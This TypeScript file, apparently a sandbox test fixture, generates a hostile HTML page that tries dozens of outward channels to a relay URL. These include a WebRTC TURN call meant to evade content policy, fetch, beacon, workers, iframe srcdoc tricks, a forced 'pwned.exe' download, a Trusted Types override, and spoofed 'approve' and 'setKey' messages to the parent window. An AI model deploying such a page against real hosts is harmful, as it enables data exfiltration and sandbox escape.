/** Calls a relay by WebRTC, which no content policy knows of. */
const peer = (url: string): string =>
  `const peer = new RTCPeerConnection({ iceServers: [{ urls: '${url.replace('http://', 'turn:').replace(/\/$/, '')}?transport=tcp', username: 'a', credential: 'b' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(() => {})`

const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')

/** A page that tries every way out that a page has, each to an address of its own under `url`. */
export const hostilePage = (url: string): string => {
  const framed = `<script>${peer(url)}</script>`
  return `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="1;url=${url}refresh">
<link rel="stylesheet" href="${url}link.css"><link rel="prefetch" href="${url}prefetch"><link rel="preload" as="image" href="${url}preload">
<link rel="icon" href="${url}icon"><link rel="preconnect" href="${url}"><link rel="modulepreload" href="${url}modulepreload.js">
<base target="_top">
<style>@import url(${url}import.css); @font-face{font-family:x;src:url(${url}font)} body{background:url(${url}background);font-family:x}</style>
<script src="${url}script.js"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}speculation"]}]}</script>
</head><body>
<h1>Report of the program</h1>
<img src="${url}image"><img srcset="${url}srcset 1x"><picture><source srcset="${url}source"></picture>
<video src="${url}video" autoplay poster="${url}poster"></video><audio src="${url}audio" autoplay></audio>
<svg width="9" height="9"><image href="${url}svg-image"/><use href="${url}use#a"/></svg>
<iframe src="${url}frame"></iframe><iframe srcdoc="<img src='${url}nested'>"></iframe>
<object data="${url}object"></object><embed src="${url}embed">
<iframe srcdoc="${escaped(framed)}"></iframe>
<div><template shadowrootmode="closed"><iframe srcdoc="${escaped(framed)}"></iframe></template></div>
<form id="f" action="${url}form" method="post"><input name="a" value="b"></form>
<a id="a" href="${url}anchor" ping="${url}ping">link</a><a id="b" href="${url}blank" target="_blank">blank</a>
<img src="x" onerror="top.pwned = 1">
<script>
const framed = ${JSON.stringify(framed).replaceAll('</', '<\\/')}
const add = (frame) => document.body.append(frame)
const frame = () => document.createElement('iframe')
const srcdoc = () => Object.assign(document.createAttribute('srcdoc'), { value: framed })
const tries = {
  peer: () => { ${peer(url)} },
  framed: () => { const one = frame(); one.srcdoc = framed; add(one) },
  attribute: () => { const one = frame(); one.setAttribute('srcdoc', framed); add(one) },
  node: () => { const one = frame(); one.setAttributeNode(srcdoc()); add(one) },
  later: () => { const one = frame(); one.setAttributeNode(document.createAttribute('srcdoc')); one.attributes.srcdoc.value = framed; add(one) },
  html: () => { document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + framed.replaceAll('"', '&quot;') + '"></iframe>') },
  range: () => { add(document.createRange().createContextualFragment('<iframe srcdoc="' + framed.replaceAll('"', '&quot;') + '"></iframe>')) },
  xml: () => { add(document.importNode(new DOMParser().parseFromString('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="' + framed.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;') + '"/>', 'text/xml').documentElement, true)) },
  policy: () => { trustedTypes.createPolicy('default', { createHTML: (text) => text }) },
  download: () => { const one = document.createElement('a'); one.download = 'pwned.exe'; one.href = URL.createObjectURL(new Blob(['x'])); one.click() },
  clipboard: () => navigator.clipboard.writeText('pwned'),
  copy: () => document.execCommand('copy'),
  fullscreen: () => document.documentElement.requestFullscreen(),
  fetch: () => fetch('${url}fetch', { mode: 'no-cors' }),
  xhr: () => { const x = new XMLHttpRequest(); x.open('GET', '${url}xhr'); x.send() },
  beacon: () => navigator.sendBeacon('${url}beacon', 'x'),
  socket: () => new WebSocket('${url.replace('http', 'ws')}socket'),
  events: () => new EventSource('${url}events'),
  module: () => import('${url}module.js'),
  worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('${url}worker')"]))),
  shared: () => new SharedWorker('${url}shared.js'),
  service: () => navigator.serviceWorker.register('${url}service.js'),
  image: () => { new Image().src = '${url}new-image' },
  open: () => open('${url}open'),
  form: () => document.getElementById('f').submit(),
  anchor: () => document.getElementById('a').click(),
  blank: () => document.getElementById('b').click(),
  parent: () => { parent.document.title = 'pwned' },
  top: () => { top.location = '${url}top' },
  storage: () => { parent.pwned = localStorage.length },
  talk: () => { for (let i = 0; i < 1000; i++) parent.postMessage({ type: ['approve', 'ready', 'setKey', 'end'][i % 4], id: '1', value: 'x' }, '*') },
  channel: () => new BroadcastChannel('autocoder').postMessage({ type: 'changed' }),
  alert: () => alert('pwned'),
  self: () => { location = '${url}self' },
}
for (const attempt of Object.values(tries)) try { Promise.resolve(attempt()).catch(() => {}) } catch {}
document.body.dataset.tried = 'all'
try { document.write('<ifr'); document.write('ame srcdoc="' + framed.replaceAll('"', '&quot;') + '"></iframe>') } catch {}
</script>
</body></html>`
}
